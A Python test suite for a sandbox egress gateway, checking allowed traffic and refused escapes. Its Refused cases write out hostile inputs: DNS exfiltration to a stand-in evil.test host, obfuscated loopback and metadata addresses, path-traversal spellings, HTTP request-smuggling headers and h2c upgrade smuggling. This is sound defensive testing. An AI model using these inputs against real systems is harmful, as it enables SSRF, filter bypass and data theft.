#!/usr/bin/python3 -I
"""What gets out of a sandbox, and what does not; cases of user reports by id."""
import hashlib
import os
import socket
import ssl
import sys
import threading
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from world import World, answer, become_ordinary, receive_head  # noqa: E402


class Allowed(World):
    def test_page_over_tls_is_fetched_judged_and_written_down(self):
        # D01, A09: getaddrinfo as it is, one row before and one after.
        origin = self.origin()
        out = self.box([self.rule("o", "api.test", origin)],
                       "print(fetch('https://api.test:%s/a/b' % words[0]))",
                       origin.port)
        self.assertEqual(out, "(200, 'hello\\n')")
        self.assertTrue(origin.heard[0].startswith(b"GET /a/b HTTP/1.1\r\n"))
        intent = self.rows("kind = 'http_intent'")[0]
        self.assertEqual((intent["host"], intent["verb"], intent["object"],
                          intent["rule"], intent["verdict"]),
                         ("api.test", "GET", "/a/b", "o", "allow"))
        done = self.rows("kind = 'http'")[0]
        self.assertEqual((done["status"], done["parent_seq"]),
                         (200, intent["seq"]))

    def test_page_in_clear_text(self):
        origin = self.origin(tls=False)
        out = self.box([self.rule("o", "api.test", origin)],
                       "print(fetch('http://api.test:%s/' % words[0]))",
                       origin.port)
        self.assertEqual(out, "(200, 'hello\\n')")

    def test_passthrough_shows_the_origins_own_certificate(self):
        origin = self.origin()
        out = self.box(
            [self.rule("o", "api.test", origin, ca=False,
                       tls="passthrough", access="any")],
            "context = ssl.create_default_context()\n"
            "context.check_hostname = False\n"
            "context.verify_mode = ssl.CERT_NONE\n"
            "peer = context.wrap_socket(socket.create_connection("
            "('api.test', int(words[0]))), server_hostname='api.test')\n"
            "peer.sendall(b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n"
            "Connection: close\\r\\n\\r\\n')\n"
            "import hashlib\n"
            "print(hashlib.sha256(peer.getpeercert(True)).hexdigest())\n"
            "print(peer.recv(15).decode())", origin.port)
        with open(os.path.join(self.shared, "origin.pem")) as source:
            own = hashlib.sha256(
                ssl.PEM_cert_to_DER_cert(source.read())).hexdigest()
        self.assertEqual(out, own + "\nHTTP/1.1 200 OK")

    def test_raw_tcp_to_a_name(self):
        # D05, S20: the server speaks first.
        def greet(peer):
            peer.sendall(b"220 ready\r\n")
            peer.sendall(b"got " + peer.recv(100))
        origin = self.origin(tls=False, serve=greet)
        out = self.box([self.rule("o", "db.test", origin, ca=False,
                                  protocol="tcp")],
                       "peer = socket.create_connection("
                       "('db.test', int(words[0])))\n"
                       "print(peer.recv(100).decode().strip())\n"
                       "peer.sendall(b'QUIT')\n"
                       "print(peer.recv(100).decode())", origin.port)
        self.assertEqual(out, "220 ready\ngot QUIT")

    def test_case_of_a_name_does_not_matter(self):
        # B18: in the rule, the query, the ClientHello and Host.
        origin = self.origin()
        out = self.box([self.rule("o", "Api.Test", origin)],
                       "print(fetch('https://aPI.tEST:%s/' % words[0])[0])",
                       origin.port)
        self.assertEqual(out, "200")

    def test_head_is_allowed_where_get_is(self):
        # S26
        origin = self.origin(
            serve=lambda peer: (receive_head(peer), peer.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n"
                b"Connection: close\r\n\r\n")))
        out = self.box([self.rule("o", "api.test", origin)],
                       "print(fetch('https://api.test:%s/' % words[0],"
                       " method='HEAD'))", origin.port)
        self.assertEqual(out, "(200, '')")

    def test_encoded_slash_goes_on_unchanged(self):
        # S25: scoped packages of npm.  Its hexadecimal digits are written
        # large, as RFC 3986 section 6.2.2.1 asks.
        origin = self.origin()
        out = self.box([self.rule("o", "api.test", origin)],
                       "print(fetch('https://api.test:%s/@scope%%2fname'"
                       " % words[0])[0])", origin.port)
        self.assertEqual(out, "200")
        self.assertTrue(origin.heard[0].startswith(b"GET /@scope%2Fname "))

    def test_redirect_is_the_clients_to_follow(self):
        # S33
        def redirect(peer):
            receive_head(peer)
            peer.sendall(b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\n"
                         b"Location: https://elsewhere.test/\r\n\r\n")
        origin = self.origin(serve=redirect)
        out = self.box([self.rule("o", "api.test", origin)],
                       "c = http.client.HTTPSConnection('api.test', "
                       "int(words[0]))\nc.request('GET', '/')\n"
                       "r = c.getresponse()\n"
                       "print(r.status, r.headers['location'])", origin.port)
        self.assertEqual(out, "302 https://elsewhere.test/")

    def test_first_event_arrives_before_the_last_is_sent(self):
        # S05, S14: a stream is not gathered.
        seen = threading.Event()

        def stream(peer):
            while True:
                head, _ = receive_head(peer)
                if not head:
                    return
                if b"/seen" in head:
                    seen.set()
                    answer(peer)
                    continue
                peer.sendall(b"HTTP/1.1 200 OK\r\n"
                             b"Content-Type: text/event-stream\r\n"
                             b"Transfer-Encoding: chunked\r\n\r\n"
                             b"7\r\nfirst\n\n\r\n")
                # Nothing more before the client has said that it came.
                if seen.wait(60):
                    peer.sendall(b"6\r\nlast\n\n\r\n0\r\n\r\n")
        origin = self.origin(serve=stream)
        out = self.box([self.rule("o", "api.test", origin)],
                       "base = 'https://api.test:' + words[0]\n"
                       "page = urllib.request.urlopen(base + '/events')\n"
                       "print(page.readline().decode().strip())\n"
                       "fetch(base + '/seen')\n"
                       "print(page.read().decode().strip())", origin.port)
        self.assertEqual(out, "first\nlast")

    def test_upload_and_download_keep_every_byte(self):
        # S11, S24, C04
        size = 8 << 20

        def echo(peer):
            head, rest = receive_head(peer)
            while len(rest) < size:
                rest += peer.recv(65536)
            answer(peer, rest)
        origin = self.origin(serve=echo)
        out = self.box([self.rule("o", "api.test", origin, access="write")],
                       "import hashlib, os\n"
                       "data = os.urandom(%d)\n"
                       "request = urllib.request.Request("
                       "'https://api.test:%%s/' %% words[0], data)\n"
                       "back = urllib.request.urlopen(request).read()\n"
                       "print(back == data)" % size, origin.port)
        self.assertEqual(out, "True")

    def test_body_that_breaks_off_is_no_clean_end(self):
        # S13
        def cut(peer):
            receive_head(peer)
            peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf")
        origin = self.origin(serve=cut)
        out = self.box([self.rule("o", "api.test", origin)],
                       "try:\n"
                       "  print(urllib.request.urlopen("
                       "'https://api.test:' + words[0]).read())\n"
                       "except (OSError, http.client.HTTPException) as e:\n"
                       "  print('broken off')", origin.port)
        self.assertEqual(out, "broken off")

    def test_loopback_of_the_sandbox_is_its_own(self):
        # D10, D13
        out = self.box([],
                       "for family, host in ((socket.AF_INET, '127.0.0.1'),"
                       " (socket.AF_INET6, '::1')):\n"
                       "  door = socket.socket(family)\n"
                       "  door.bind((host, 0)); door.listen()\n"
                       "  a = socket.create_connection("
                       "door.getsockname()[:2])\n"
                       "  b, _ = door.accept()\n"
                       "  a.sendall(b'x'); print(b.recv(1))")
        self.assertEqual(out, "b'x'\nb'x'")

    def test_a_thousand_connections_at_once(self):
        origin = self.origin(tls=False)
        out = self.box([self.rule("o", "api.test", origin)],
                       "import resource\n"
                       "resource.setrlimit(resource.RLIMIT_NOFILE, "
                       "(2048, resource.getrlimit("
                       "resource.RLIMIT_NOFILE)[1]))\n"
                       "peers = [socket.create_connection("
                       "('api.test', int(words[0]))) for _ in range(1000)]\n"
                       "for p in peers: p.sendall("
                       "b'GET / HTTP/1.1\\r\\nHost: api.test:' + "
                       "words[0].encode() + b'\\r\\n\\r\\n')\n"
                       "print(sum(b' 200 ' in p.recv(100) for p in peers))",
                       origin.port)
        self.assertEqual(out, "1000")


class Refused(World):
    """Nothing here may reach the origin, on whatever way."""

    def closed(self, script, *words, rules=None, reason=None):
        origin = self.origin(tls=False)
        if rules is None:
            rules = [self.rule("o", "good.test", origin)]
        out = self.box(rules, script, *words, origin.port)
        self.assertEqual(origin.count, 0, out)
        if reason is not None:
            self.refused_for(reason)
        return out

    def test_name_no_rule_allows_fails_at_once_and_says_so(self):
        # D02, B26, A07
        out = self.closed(
            "start = time.monotonic()\n"
            "print(fetch('http://ZGF0YQ.secret.evil.test/')[0])\n"
            "print(time.monotonic() - start < 5)", reason="no_rule")
        self.assertEqual(out, "failed\nTrue")
        asked = self.rows("kind = 'dns'")
        self.assertTrue(asked)
        self.assertTrue(all(row["verdict"] == "deny" for row in asked))

    def test_suffix_has_a_boundary(self):
        # B14
        out = self.closed(
            "for name in ('evilgood.test', 'good.test.evil.test'):\n"
            "  print(fetch('http://%s:%s/' % (name, words[0]))[0])")
        self.assertEqual(out, "failed\nfailed")

    def test_unusual_queries_are_answered_and_go_nowhere(self):
        # B26, B28: TXT, ANY, a type of its own; over UDP and over TCP.
        out = self.closed(r'''
import struct
def ask(kind, stream):
    q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + \
        b"\4data\4evil\4test\0" + struct.pack(">HH", kind, 1)
    if stream:
        peer = socket.create_connection(("203.0.113.53", 53), timeout=30)
        peer.sendall(struct.pack(">H", len(q)) + q)
        a = peer.recv(4096)[2:]
    else:
        peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        peer.settimeout(30)
        peer.sendto(q, ("203.0.113.53", 53))
        a = peer.recv(4096)
    return a[3] & 15
print(sorted({ask(k, s) for k in (1, 16, 28, 255, 65280)
              for s in (False, True)}))''')
        self.assertIn(out, ("[5]", "[3]", "[3, 5]"))

    def test_other_port_of_an_allowed_host(self):
        # B01
        out = self.closed(
            "print(fetch('http://good.test:1/')[0])\n"
            "print(fetch('https://good.test:1/')[0])", reason="no_rule")
        for line in out.split("\n"):
            self.assertIn(line, ("403", "failed"))

    def test_arbitrary_addresses_on_any_port_of_both_families(self):
        # B01, B07, D16
        out = self.closed(
            "for host in ('203.0.113.7', '2001:db8::7'):\n"
            "  for port in (1, 22, 80, 443, 853, 4444, 65535):\n"
            "    heard = talk(host, port, b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
            "    assert heard.startswith('failed') or ' 403 ' in heard "
            "or heard == '', heard\n"
            "print('none')", reason="no_rule")
        self.assertEqual(out, "none")
        ports = {row["port"] for row in self.rows("verdict = 'deny'")}
        self.assertTrue({1, 22, 80, 443, 853, 4444, 65535} <= ports, ports)

    def test_loopback_private_and_metadata_addresses(self):
        # B07, B09: the origin listens on this machine's loopback.
        out = self.closed(r'''
hosts = ("0.0.0.0", "::", "::ffff:127.0.0.1", "127.0.0.2", "127.1",
         "2130706433", "0x7f.1", "017700000001", "10.0.0.1", "192.168.0.1",
         "169.254.169.254", "::ffff:169.254.169.254", "fe80::1", "fd00::1",
         "64:ff9b::7f00:1", "2002:7f00:1::1", "100.64.0.1", "224.0.0.1")
for host in hosts:
    heard = talk(host, words[0], b"GET / HTTP/1.0\r\n\r\n", timeout=10)
    assert heard.startswith("failed") or " 403 " in heard or heard == "", \
        (host, heard)
print("none")''')
        self.assertEqual(out, "none")

    def test_name_that_resolves_to_a_special_address(self):
        # The gateway finds it in the machine's own hosts file.
        origin = self.origin(tls=False)
        out = self.box([{"id": "o", "host": ["localhost"],
                         "port": [origin.port]}], r'''
import struct
peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
peer.settimeout(30)
peer.sendto(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\11localhost\0" +
            struct.pack(">HH", 1, 1), ("203.0.113.53", 53))
address = socket.inet_ntoa(peer.recv(4096)[-4:])
print(talk(address, words[0], b"GET / HTTP/1.1\r\nHost: localhost:" +
           words[0].encode() + b"\r\nConnection: close\r\n\r\n").split(" ")[1])
''', origin.port)
        self.assertEqual(out, "403")
        self.assertEqual(origin.count, 0)
        self.refused_for("special_address")

    def test_address_denied_for_a_path_is_not_reached_by_name(self):
        # On a connection that another path has opened already.
        origin = self.origin(tls=False)
        out = self.box([
            {"id": "o", "host": ["origin.example.test"],
             "port": [origin.port], "resolve": "127.0.0.1", "private": True},
            {"id": "no", "address": ["127.0.0.1/32"], "path": ["/secret/**"],
             "action": "deny"}], r'''
heard = talk("origin.example.test", words[0], b"".join(
    b"GET " + path + b" HTTP/1.1\r\nHost: origin.example.test:" +
    words[0].encode() + b"\r\n" + last + b"\r\n"
    for path, last in ((b"/open", b""),
                       (b"/secret/x", b"Connection: close\r\n"))))
print(heard.count("HTTP/1.1 200"), heard.count("HTTP/1.1 403"))
''', origin.port)
        self.assertEqual(out, "1 1")
        self.assertEqual(origin.count, 1)
        self.refused_for("special_address")

    def test_tls_to_an_address_without_a_name(self):
        # B03
        out = self.closed(r'''
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
try:
    peer = context.wrap_socket(socket.create_connection(
        ("127.0.0.3", int(words[0])), timeout=30))
    peer.sendall(b"GET / HTTP/1.0\r\n\r\n")
    print(" 403 " in peer.recv(4096).decode())
except OSError:
    print(True)''')
        self.assertEqual(out, "True")

    def test_hello_for_another_name_than_the_connection(self):
        # B05
        origin = self.origin()
        rules = [self.rule("a", "a.test", origin),
                 self.rule("b", "b.test", origin)]
        out = self.box(rules, r'''
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
try:
    peer = context.wrap_socket(socket.create_connection(
        ("a.test", int(words[0])), timeout=30), server_hostname="b.test")
    peer.sendall(b"GET / HTTP/1.1\r\nHost: b.test\r\n\r\n")
    print(" 403 " in peer.recv(4096).decode())
except OSError:
    print(True)''', origin.port)
        self.assertEqual(out, "True")
        self.assertEqual(origin.heard, [])
        self.refused_for("sni_mismatch")

    def test_host_field_for_another_name_than_the_connection(self):
        origin = self.origin()
        rules = [self.rule("a", "a.test", origin),
                 self.rule("b", "b.test", origin)]
        out = self.box(rules, r'''
heard = talk("a.test", words[0], b"GET / HTTP/1.1\r\nHost: b.test:" +
             words[0].encode() + b"\r\nConnection: close\r\n\r\n", tls="a.test")
print(heard.split("\r\n")[0])''', origin.port)
        self.assertRegex(out, r"^HTTP/1.1 (400|403|421) ")
        self.assertEqual(origin.heard, [])
        self.refused_for("host_mismatch")

    def test_method_no_rule_allows_gets_a_page_a_program_can_read(self):
        # A04, A05, A06
        origin = self.origin()
        out = self.box([self.rule("o", "api.test", origin)], r'''
status, body = fetch("https://api.test:%s/x" % words[0], b"data")
page = json.loads(body)
print(status, page["reason"], bool(page["detail"]), bool(page["event"]))''',
                       origin.port)
        self.assertEqual(out, "403 method True True")
        self.assertEqual(origin.heard, [])
        self.refused_for("method")

    def test_every_request_of_a_connection_is_judged(self):
        origin = self.origin()
        out = self.box([self.rule("o", "api.test", origin,
                                  path=["/open/**"])], r'''
c = http.client.HTTPSConnection("api.test", int(words[0]))
seen = []
for path in ("/open/a", "/shut", "/open/b"):
    c.request("GET", path)
    r = c.getresponse()
    r.read()
    seen.append(r.status)
print(seen)''', origin.port)
        self.assertEqual(out, "[200, 403, 200]")
        self.assertEqual([head.split()[1] for head in origin.heard],
                         [b"/open/a", b"/open/b"])

    def test_path_rule_meets_every_spelling(self):
        # B33
        origin = self.origin()
        out = self.box([self.rule("o", "api.test", origin,
                                  path=["/open/**"])], r'''
for path in ("/open/../shut", "/open/%2e%2e/shut", "/open/..%2fshut",
             "/open//../shut", "/open/./../shut", "/open\\..\\shut",
             "/shut;/open/x", "/open/%2E%2e;x/shut"):
    heard = talk("api.test", words[0], b"GET " + path.encode() +
                 b" HTTP/1.1\r\nHost: api.test:" + words[0].encode() +
                 b"\r\nConnection: close\r\n\r\n", tls="api.test")
    print(heard.split(" ")[1])''', origin.port)
        for status in out.split("\n"):
            self.assertIn(status, ("400", "403"))
        self.assertEqual(origin.heard, [])

    def test_ambiguous_requests_reach_nobody(self):
        # B34
        origin = self.origin(tls=False)
        out = self.box([self.rule("o", "api.test", origin, access="write")],
                       r'''
host = b"Host: api.test:" + words[0].encode() + b"\r\n"
for lines in (b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n",
              b"Content-Length: 3\r\nContent-Length: 4\r\n",
              b"Transfer-Encoding: xchunked\r\n",
              b"Transfer-Encoding : chunked\r\n",
              b"Content-Length : 3\r\n",
              b"X: a\r\n folded\r\n",
              b"Content-Length: +3\r\n",
              b"Host: other.test\r\n",
              b"A: b\nContent-Length: 3\r\n"):
    heard = talk("api.test", words[0], b"POST / HTTP/1.1\r\n" + host + lines +
                 b"\r\nabc")
    print(heard.split(" ")[1] if " " in heard else heard)''', origin.port)
        for status in out.split("\n"):
            self.assertEqual(status, "400")
        self.assertEqual(origin.heard, [])

    def test_h2c_does_not_slip_past(self):
        # B35
        origin = self.origin(tls=False)
        out = self.box([self.rule("o", "api.test", origin)], r'''
host = b"Host: api.test:" + words[0].encode() + b"\r\n"
print(talk("api.test", words[0], b"GET / HTTP/1.1\r\n" + host +
    b"Connection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n").split(" ")[1])
print(talk("api.test", words[0], b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    b"\0\0\0\4\0\0\0\0\0")[:6])''', origin.port)
        self.assertNotIn("101", out)
        for head in origin.heard:
            self.assertNotIn(b"upgrade", head.lower())
            self.assertFalse(head.startswith(b"PRI"))

    def test_datagrams_are_refused_at_once(self):
        # B27
        out = self.closed(r'''
seen = []
for family, host in ((socket.AF_INET, "203.0.113.7"),
                     (socket.AF_INET6, "2001:db8::7")):
    for port in (443, 123, 4444):
        peer = socket.socket(family, socket.SOCK_DGRAM)
        peer.settimeout(10)
        start = time.monotonic()
        try:
            peer.connect((host, port))
            peer.send(b"x")
            peer.recv(1)
            seen.append("answered")
        except OSError as error:
            seen.append(time.monotonic() - start < 5)
print(set(seen))''')
        self.assertEqual(out, "{True}")

    def test_proxy_variables_are_not_there_and_not_needed(self):
        # B22, L34
        self.environment.update(HTTPS_PROXY="http://127.0.0.1:1",
                                AWS_SECRET_ACCESS_KEY="x")
        origin = self.origin()
        out = self.box([self.rule("o", "api.test", origin)], r'''
import os
print([n for n in os.environ if "PROXY" in n.upper() or "SECRET" in n])
print(fetch("https://api.test:%s/" % words[0])[0])''', origin.port)
        self.assertEqual(out, "[]\n200")

    def test_without_rules_nothing_goes(self):
        # P04
        out = self.closed("print(fetch('http://good.test:%s/' % words[0])[0])",
                          rules=[])
        self.assertEqual(out, "failed")


class Apart(World):
    def test_two_runs_at_once_do_not_meet(self):
        a, b = self.origin(), self.origin()
        script = ("import sys; sys.path; "
                  "import urllib.request, time\n"
                  "def get(h, p):\n"
                  "  try: return urllib.request.urlopen("
                  "'https://%s:%s/' % (h, p), timeout=30).status\n"
                  "  except OSError: return 'failed'\n"
                  "print(get('a.test', sys.argv[1]), "
                  "get('b.test', sys.argv[2]))\n")
        words = ("python3", "-I", "-c", script, str(a.port), str(b.port))
        one = self.start([self.rule("a", "a.test", a)], *words)
        # Its policy has been read when its command runs; give it its own.
        two_folder = os.path.join(self.folder, "two")
        os.mkdir(two_folder)
        folder, self.folder = self.folder, two_folder
        two = self.start([self.rule("b", "b.test", b)], *words)
        self.folder = folder
        self.assertEqual(one.communicate(timeout=240)[0].strip(),
                         "200 failed")
        self.assertEqual(two.communicate(timeout=240)[0].strip(),
                         "failed 200")
        runs = {row["sandbox"] for row in self.rows("kind = 'http'")}
        self.assertEqual(len(runs), 2)

    def test_sum_of_the_last_line_is_that_of_the_audit(self):
        origin = self.origin()
        code, _, err = self.run_box(
            [self.rule("o", "api.test", origin)], "python3", "-I", "-c",
            "import sys, urllib.request\n"
            "url = 'https://api.test:' + sys.argv[1]\n"
            "urllib.request.urlopen(url).read()\n"
            "try: urllib.request.urlopen(url, b'x')\n"
            "except OSError: pass\n", str(origin.port))
        self.assertEqual(code, 0, err)
        self.assertIn("exeat: 2 requests, 1 refused (1 method); ", err)


if __name__ == "__main__":
    become_ordinary()
    socket.setdefaulttimeout(120)
    unittest.main()
